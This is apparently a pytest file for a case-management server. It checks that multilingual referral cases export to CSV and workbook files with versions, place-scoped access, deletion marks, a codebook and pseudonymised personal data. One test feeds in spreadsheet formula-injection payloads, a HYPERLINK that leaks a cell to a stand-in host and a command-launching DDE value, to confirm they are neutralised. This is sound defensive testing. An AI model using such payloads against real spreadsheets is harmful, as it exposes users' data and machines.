"""Cases in the exports of the forms that feed them: the referral's CSV zip and workbook hold the
list's cases as they stand and every version of each (who, from which submission), typed like
the form's columns, within the reader's places, safe in a spreadsheet, described in the codebook
in the programme's three languages."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from server.database import per_request
from server.database.models import (
    AppUser,
    AppUserPlace,
    Entity,
    EntityDef,
    utcnow,
)
from server.database.queries import forms as form_queries
from server.services.cases import deleting
from server.services.exports import Options, jobs, prepare
from server.services.exports.cells import row_maker
from tests.exports.test_downloads_page import ask
from tests.support.cases import FOLLOW_UP, case_instance, entity, follow_up, with_entities
from tests.support.xlsforms import xlsform

REFERRAL_ID, FOLLOW_UP_ID = "incident_referral", "referral_follow_up"
CASES, VERSIONS = "cases.csv", "cases-versions.csv"

# The referral as the programme words it, in Arabic, Kurdish and English (the case tests' form
# has English only): what the codebook must carry to the cases' columns.
REFERRAL = with_entities(xlsform("""
    | | type | name | label::Arabic (ar) | label::Kurdish (ckb) | label::English (en) | save_to | calculation |
    | | text | reference | المرجع | ژمارەی ئاماژە | Reference | | |
    | | select_one category | category | الفئة | پۆل | Category | category | |
    | | text | governorate | المحافظة | پارێزگا | Governorate | governorate | |
    | | text | district | القضاء | قەزا | District | district | |
    | | text | forum | المنتدى | فۆرەم | Forum | forum | |
    | | select_one urgency | urgency | الأولوية | پەلەیی | Urgency | urgency | |
    | | text | victim_name | اسم الضحية | ناوی قوربانی | Victim's name | | |
    | | calculate | status | | | | status | 'open' |
""", form_id=REFERRAL_ID, version="3", choices="""
    | | list_name | name | label::Arabic (ar) | label::Kurdish (ckb) | label::English (en) |
    | | category | theft | سرقة | دزی | Theft |
    | | category | threat | تهديد | هەڕەشە | Threat |
    | | urgency | high | عالية | بەرز | High |
    | | urgency | normal | عادية | ئاسایی | Normal |
"""), """
    | | list_name | label |
    | | cases | concat(${reference}, ' ', ${category}, ' ', ${forum}) |
""")


def opening(case_id: str, *, governorate="Basra", district="Zubair", forum="F1",
            label="R1 theft F1", category="theft") -> bytes:
    return case_instance(REFERRAL_ID, "3", {
        "reference": "R1", "category": category, "governorate": governorate,
        "district": district, "forum": forum, "urgency": "high",
        "victim_name": "Ali Hassan", "status": "open",
    }, entity(case_id, create="1", label=label))


@pytest.fixture
def case_forms(load):
    load(REFERRAL)
    load(FOLLOW_UP)


@pytest.fixture
def officer_of(case_forms, make_phone, session):
    """officer_of(name, forum) → the phone of an officer of that forum."""
    def _make(name: str, forum: str):
        phone = make_phone(name)
        app_user = session.scalars(sa.select(AppUser).where(AppUser.name == name)).one()
        session.add(AppUserPlace(app_user_id=app_user.id, kind="forum", value=forum))
        session.commit()
        return phone
    return _make


@pytest.fixture
def officer(officer_of):
    return officer_of("officer", "F1")


def sent(phone, xml: bytes) -> str:
    """The instanceID of `xml`, once the server took it."""
    reply = phone.submit(xml)
    assert reply.status == 201, reply.body
    return xml.decode().split("<instanceID>")[1].split("</instanceID>")[0]


def export(analyst, form_id: str = REFERRAL_ID, suffix: str = "csv.zip", **query) -> bytes:
    response = analyst.get(f"/api/v1/forms/{form_id}/export.{suffix}", query_string=query)
    try:
        assert response.status_code == 200, response.get_data(as_text=True)
        return response.data
    finally:
        response.close()


def csv_files(data: bytes) -> dict[str, list[dict[str, str]]]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {name: list(csv.DictReader(io.TextIOWrapper(archive.open(name), "utf-8",
                                                       newline="")))
            for name in archive.namelist()}


def sheet_rows(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_referral_export_holds_each_case_as_it_stands_and_every_version(officer, analyst):
    case_id = str(uuid.uuid4())
    key = sent(officer, opening(case_id))
    second = sent(officer, follow_up(case_id, "in_progress", base=1))
    third = sent(officer, follow_up(case_id, "closed", base=2, next_date="2026-12-24"))

    files = csv_files(export(analyst))

    assert {REFERRAL_ID + ".csv", CASES, VERSIONS, "codebook.csv", "export.csv"} == set(files)
    (row,) = files[CASES]
    assert list(row) == ["__id", "label", "__version", "category", "governorate", "district",
                         "forum", "urgency", "status", "next_follow_up", "__conflict",
                         "__createdAt", "__updatedAt", "__deletedAt", "__creatorName"]
    assert (row["__id"], row["label"], row["__version"]) == (case_id, "R1 theft F1", "3")
    assert (row["status"], row["next_follow_up"], row["category"]) == (
        "closed", "2026-12-24", "theft")
    assert row["__createdAt"].endswith("Z") and row["__updatedAt"] >= row["__createdAt"]
    assert (row["__deletedAt"], row["__conflict"], row["__creatorName"]) == ("", "", "officer")
    assert "victim_name" not in row  # personal details stay in the submission
    versions = files[VERSIONS]
    assert [(v["__id"], v["__version"], v["status"], v["__submissionKey"], v["__instanceID"])
            for v in versions] == [(case_id, "1", "open", key, key),
                                   (case_id, "2", "in_progress", second, second),
                                   (case_id, "3", "closed", third, third)]
    assert {(v["__author"], v["__authorType"], v["__forced"]) for v in versions} == {
        ("officer", "app user", "0")}
    assert [v["next_follow_up"] for v in versions] == ["", "2026-12-20", "2026-12-24"]
    assert files[REFERRAL_ID + ".csv"][0]["KEY"] == key  # versions join the form by KEY
    # the follow-up feeds the same list: its export holds the same cases
    follow_files = csv_files(export(analyst, FOLLOW_UP_ID))
    assert follow_files[CASES] == files[CASES] and follow_files[VERSIONS] == versions


def test_a_form_that_feeds_no_list_exports_no_cases(load, officer, analyst):
    load(xlsform("""
        | | type | name | label |
        | | text | forum | Forum |
    """, form_id="plain"))
    sent(officer, opening(str(uuid.uuid4())))

    assert not {CASES, VERSIONS} & set(csv_files(export(analyst, "plain")))


def test_the_workbook_has_a_sheet_for_the_cases_and_one_for_their_versions(officer, analyst):
    case_id = str(uuid.uuid4())
    sent(officer, opening(case_id))
    sent(officer, follow_up(case_id, "in_progress", base=1))

    book = load_workbook(io.BytesIO(export(analyst, suffix="xlsx")))

    assert book.sheetnames == [REFERRAL_ID, "cases", "cases-versions", "codebook", "export"]
    (row,) = sheet_rows(book["cases"])
    assert (row["__id"], row["__version"], row["status"]) == (case_id, 2, "in_progress")
    assert row["next_follow_up"] == dt.datetime(2026, 12, 20)  # a date cell
    assert isinstance(row["__createdAt"], dt.datetime) and row["__deletedAt"] is None
    assert [(v["__version"], v["__forced"], v["status"]) for v in
            sheet_rows(book["cases-versions"])] == [(1, 0, "open"), (2, 0, "in_progress")]
    about = dict(book["export"].iter_rows(min_row=2, values_only=True))
    assert (about["rows in cases"], about["rows in cases-versions"]) == ("1", "2")
    assert "only the places apply to cases" in about["cases (cases)"]


def test_an_analyst_gets_only_the_cases_of_their_places(officer_of, make_analyst, analyst):
    basra, nineveh = str(uuid.uuid4()), str(uuid.uuid4())
    sent(officer_of("basra-officer", "F1"), opening(basra))
    mosul = officer_of("mosul-officer", "F9")
    sent(mosul, opening(nineveh, governorate="Nineveh", district="Mosul", forum="F9",
                        label="R1 theft F9"))
    sent(mosul, follow_up(nineveh, "in_progress", base=1))

    of_basra = csv_files(export(make_analyst("basra", scopes=[("governorate", "Basra")])))
    of_forum = make_analyst("forum9", scopes=[("forum", "F9")])
    of_forum_book = load_workbook(io.BytesIO(export(of_forum, suffix="xlsx")))
    everywhere = csv_files(export(analyst))

    assert [r["__id"] for r in of_basra[CASES]] == [basra]
    assert [r["__id"] for r in of_basra[VERSIONS]] == [basra]
    assert [r["__id"] for r in sheet_rows(of_forum_book["cases"])] == [nineveh]
    assert [r["__id"] for r in sheet_rows(of_forum_book["cases-versions"])] == [nineveh] * 2
    assert [r["__id"] for r in everywhere[CASES]] == [basra, nineveh]
    # a place filter chooses cases as it chooses submissions
    only_mosul = csv_files(export(analyst, district="Mosul"))
    assert [r["__id"] for r in only_mosul[CASES]] == [nineveh]
    assert [r["__id"] for r in csv_files(export(analyst, forum="F1"))[VERSIONS]] == [basra]


def test_a_hostile_label_or_value_is_plain_text_in_the_csv_and_the_workbook(officer, analyst):
    case_id = str(uuid.uuid4())
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    sent(officer, opening(case_id, label=hostile, district="+cmd|' /C calc'!A0"))

    (row,) = csv_files(export(analyst))[CASES]
    book = load_workbook(io.BytesIO(export(analyst, suffix="xlsx")))

    assert row["label"] == "'" + hostile and row["district"] == "'+cmd|' /C calc'!A0"
    for sheet in ("cases", "cases-versions"):
        (cells,) = sheet_rows(book[sheet])
        assert cells["label"] == "'" + hostile
        assert cells["district"].startswith("'+")
    cells = [cell for row in book["cases"].iter_rows(min_row=2) for cell in row
             if isinstance(cell.value, str) and cell.value.startswith("'")]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)  # text, not formulas


def test_arabic_and_kurdish_values_come_out_as_the_officer_wrote_them(officer_of, analyst):
    case_id = str(uuid.uuid4())
    label = "إحالة ١ سرقة منتدى الزبير"
    sent(officer_of("officer", "منتدى الزبير"), opening(
        case_id, forum="منتدى الزبير", district="الزُّبَير", governorate="البصرة", label=label))

    (row,) = csv_files(export(analyst))[CASES]
    (cell,) = sheet_rows(load_workbook(io.BytesIO(export(analyst, suffix="xlsx")))["cases"])

    for found in (row, cell):
        assert (found["label"], found["forum"], found["district"], found["governorate"]) == (
            label, "منتدى الزبير", "الزُّبَير", "البصرة")


def test_a_deleted_case_is_kept_and_marked(officer, analyst, session):
    kept, deleted = str(uuid.uuid4()), str(uuid.uuid4())
    sent(officer, opening(kept))
    sent(officer, opening(deleted))
    delete_case(session, deleted)

    rows = {r["__id"]: r for r in csv_files(export(analyst))[CASES]}

    assert rows[kept]["__deletedAt"] == "" and rows[deleted]["__deletedAt"].endswith("Z")


def delete_case(session, case_id: str) -> None:
    """An administrator's deletion, as `muntada cases delete` makes it."""
    session.rollback()
    deleting.delete(session.connection(), "cases", case_id, None, utcnow())
    session.commit()


def test_a_corrected_referral_names_the_submission_and_its_edit(officer, analyst):
    case_id = str(uuid.uuid4())
    key = sent(officer, opening(case_id))
    edit = opening(case_id, district="Abu Al-Khaseeb").replace(
        b"</instanceID>", f"</instanceID><deprecatedID>{key}</deprecatedID>".encode())
    edit_id = sent(officer, edit)

    versions = csv_files(export(analyst))[VERSIONS]

    assert [(v["__version"], v["district"], v["__submissionKey"], v["__instanceID"])
            for v in versions] == [("1", "Zubair", key, key),
                                   ("2", "Abu Al-Khaseeb", key, edit_id)]


def test_a_version_a_supervisor_made_names_the_web_user(officer, analyst, make_user, session):
    case_id = str(uuid.uuid4())
    sent(officer, opening(case_id))
    supervisor = make_user("layla", "supervisor")
    # as resolving a conflict on the case page records it: a version of no submission
    case = session.scalars(sa.select(Entity).where(Entity.uuid == case_id)).one()
    session.add(EntityDef(entity_id=case.id, version=2, label=case.label, data=case.data,
                          user_id=supervisor.id, created_at=utcnow()))
    session.commit()

    versions = csv_files(export(analyst))[VERSIONS]

    assert [(v["__version"], v["__author"], v["__authorType"], v["__submissionKey"])
            for v in versions] == [("1", "officer", "app user", versions[0]["__submissionKey"]),
                                   ("2", "layla", "web user", "")]


def test_a_conflict_shows_on_the_case_and_on_the_version_that_made_it(officer_of, analyst):
    case_id = str(uuid.uuid4())
    first = officer_of("first", "F1")
    sent(first, opening(case_id))
    sent(first, follow_up(case_id, "in_progress", base=1))
    sent(officer_of("second", "F1"), follow_up(case_id, "closed", base=1))

    files = csv_files(export(analyst))

    (row,) = files[CASES]
    assert row["__conflict"] in ("soft", "hard")
    last = files[VERSIONS][-1]
    assert (last["__author"], last["__conflict"]) == ("second", row["__conflict"])
    assert "status" in last["__conflictingProperties"].split()


def test_the_codebook_describes_the_cases_columns_in_three_languages(officer, analyst):
    sent(officer, opening(str(uuid.uuid4())))

    entries = {(e["table"], e["column"]): e
               for e in csv_files(export(analyst))["codebook.csv"]}
    follow_entries = {(e["table"], e["column"]): e
                      for e in csv_files(export(analyst, FOLLOW_UP_ID))["codebook.csv"]}

    category = entries[("cases", "category")]
    assert (category["label (ar)"], category["label (ckb)"], category["label (en)"]) == (
        "الفئة", "پۆل", "Category")
    assert category["type"] == "select_one" and category["field"] == f"{REFERRAL_ID}:/category"
    assert "theft = سرقة / دزی / Theft" in category["choices"]
    assert category["form versions"] == f"{REFERRAL_ID} 3"
    assert entries[("cases", "next_follow_up")]["type"] == "date"
    assert entries[("cases", "__deletedAt")]["type"] == "datetime"
    assert "Deleted cases are kept" in entries[("cases", "__deletedAt")]["label (ar)"]
    assert entries[("cases-versions", "__submissionKey")]["type"] == "text"
    assert entries[("cases-versions", "status")]["cleaning"].startswith("trimmed")
    # the follow-up's export words the referral's properties by the referral's fields (this
    # follow-up has no translations: its one label column takes the field's first language)
    assert follow_entries[("cases", "category")]["label"] == "الفئة"
    status = follow_entries[("cases", "status")]
    assert status["type"] == "select_one" and "closed = Closed" in status["choices"]
    assert set(status["form versions"].split(", ")) == {f"{FOLLOW_UP_ID} 1", f"{REFERRAL_ID} 3"}
    for table, name in (("cases", "cases.csv"), ("cases-versions", "cases-versions.csv")):
        header = next(csv.reader(io.StringIO(zipfile.ZipFile(io.BytesIO(export(analyst)))
                                             .read(name).decode())))
        assert [c for t, c in entries if t == table] == header


def test_choice_labels_and_label_headers_reach_the_cases(officer, analyst):
    sent(officer, opening(str(uuid.uuid4())))

    book = load_workbook(io.BytesIO(export(analyst, suffix="xlsx", values="labels",
                                           headers="labels", language="ar")))

    (row,) = sheet_rows(book["cases"])
    assert (row["الفئة"], row["الأولوية"]) == ("سرقة", "عالية")
    assert row["__id"] and row["label"] == "R1 theft F1"


def test_the_downloads_page_writes_the_cases_too(officer, browser_for, session):
    case_id = str(uuid.uuid4())
    sent(officer, opening(case_id))
    sent(officer, follow_up(case_id, "in_progress", base=1))
    browser = browser_for("analyst", scopes=[("forum", "F1")])

    job_id = ask(browser, form=REFERRAL_ID, format="csv")
    status = browser.get(f"/downloads/{job_id}/status").get_json()
    download = browser.get(status["file"])
    data = download.data
    download.close()

    # the progress counts the cases' rows too: a submission, a case, two versions
    assert (status["state"], status["done"], status["total"]) == ("done", 4, 4)
    files = csv_files(data)
    assert [r["__id"] for r in files[CASES]] == [case_id] and len(files[VERSIONS]) == 2


# A form whose author saved an identifying answer to a property, against the programme's rule:
# the export still treats it as the form does.
CONTACT = with_entities(xlsform("""
    | | type | name | label | save_to | bind::muntada:personal |
    | | text | forum | Forum | forum | |
    | | text | governorate | Governorate | governorate | |
    | | text | contact_phone | Contact's phone | contact_phone | yes |
""", form_id="contact_referral", version="1", extra_settings=(
    'namespaces=muntada="https://muntada.example/xforms"')), """
    | | list_name | label |
    | | cases | concat('contact ', ${forum}) |
""")


def test_an_identifying_answer_saved_to_a_property_is_pseudonymised_as_in_the_form(
        load, officer, make_analyst, analyst):
    load(CONTACT)
    case_id = str(uuid.uuid4())
    sent(officer, case_instance("contact_referral", "1", {
        "forum": "F1", "governorate": "Basra", "contact_phone": "0770 123 4567"},
        entity(case_id, create="1", label="contact F1")))
    reader = make_analyst("reader", personal_data=True)

    hidden = csv_files(export(analyst, "contact_referral"))
    shown = csv_files(export(reader, "contact_referral"))

    (case,) = hidden[CASES]
    assert case["contact_phone"].startswith("P-") and "4567" not in str(hidden[VERSIONS])
    assert hidden[VERSIONS][0]["contact_phone"] == case["contact_phone"]  # the same pseudonym
    assert shown[CASES][0]["contact_phone"] == "+9647701234567"
    entry = next(e for e in hidden["codebook.csv"]
                 if (e["table"], e["column"]) == ("cases", "contact_phone"))
    assert entry["classification (en)"] == "identifying: replaced by a pseudonym"


def prepared(app, form_id: str, user):
    """The request's session and the export of `form_id` as `user` would get it (in an app
    context)."""
    session = per_request.session()
    return session, prepare(session, form_queries.get_form(session, form_id), user, Options(),
                            secret_key="k", blobs=app.extensions["blobs"])


def test_a_file_whose_cases_show_personal_answers_uses_the_permission(
        app, load, officer, make_user):
    load(CONTACT)
    reader = make_user("reader", "analyst", personal_data=True)

    with app.app_context():
        _session, follow = prepared(app, FOLLOW_UP_ID, reader)
        made_with = jobs.made_with(follow)

    # the follow-up's own columns are not personal; the cases' contact_phone is
    assert not any(c.personal for t in follow.layout.tables for c in t.columns)
    assert made_with.personal_data is True


def test_cases_and_versions_stream_a_batch_at_a_time(app, officer, make_user):
    cases = [str(uuid.uuid4()) for _ in range(5)]
    for case_id in cases:
        sent(officer, opening(case_id))
    sent(officer, follow_up(cases[0], "in_progress", base=1))

    with app.app_context():
        session, export_of = prepared(app, REFERRAL_ID, make_user("batcher", "analyst"))
        (case_list,) = export_of.cases
        batches = {}
        for table in case_list.layout.tables:
            make = row_maker(case_list.layout, table, export_of.choices, export_of.pseudonyms,
                             "csv")
            batches[table.key] = list(case_list.batches(session, table, make, size=2))

    assert [len(b) for b in batches["cases"]] == [2, 2, 1]
    assert [row[0] for b in batches["cases"] for row in b] == cases  # in opening order
    assert [len(b) for b in batches["versions"]] == [2, 2, 2]
    assert [(row[0], row[1]) for row in batches["versions"][0]] == [(cases[0], 1),
                                                                    (cases[0], 2)]
